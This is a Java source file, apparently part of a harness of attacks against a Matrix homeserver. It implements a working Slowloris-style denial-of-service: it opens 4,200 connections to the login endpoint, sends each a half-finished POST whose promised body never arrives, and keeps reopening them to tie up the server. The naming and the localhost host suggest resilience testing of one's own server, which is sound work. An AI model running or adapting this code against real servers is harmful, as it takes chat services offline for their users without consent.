package org.bongsu.attack;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Thousands of requests whose body never comes, without an account. */
final class HalfSentRequests implements Attack {
  private static final int CONNECTIONS = 4_200;
  private static final byte[] HALF =
      ("POST /_matrix/client/v3/login HTTP/1.1\r\nHost: localhost\r\n"
              + "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"type\":")
          .getBytes(StandardCharsets.US_ASCII);

  @Override
  public String name() {
    return "half-sent";
  }

  @Override
  public String what() {
    return "%,d requests whose body never comes".formatted(CONNECTIONS);
  }

  @Override
  public Assault prepare(Target target) {
    return () -> hold(target);
  }

  private static void hold(Target target) throws InterruptedException {
    List<Socket> open = new ArrayList<>();
    try {
      while (true) {
        while (open.size() < CONNECTIONS && begin(target, open)) {}
        Thread.sleep(100);
        open.removeIf(HalfSentRequests::isClosedByServer);
      }
    } finally {
      open.forEach(HalfSentRequests::close);
    }
  }

  private static boolean begin(Target target, List<Socket> open) {
    try {
      Socket socket = target.connect();
      open.add(socket);
      socket.getOutputStream().write(HALF);
      return !Thread.currentThread().isInterrupted();
    } catch (IOException refused) {
      return false;
    }
  }

  private static boolean isClosedByServer(Socket socket) {
    try {
      if (socket.getInputStream().available() == 0) {
        return false;
      }
      close(socket); // it has been answered
      return true;
    } catch (IOException closed) {
      return true;
    }
  }

  private static void close(Socket socket) {
    try {
      socket.close();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
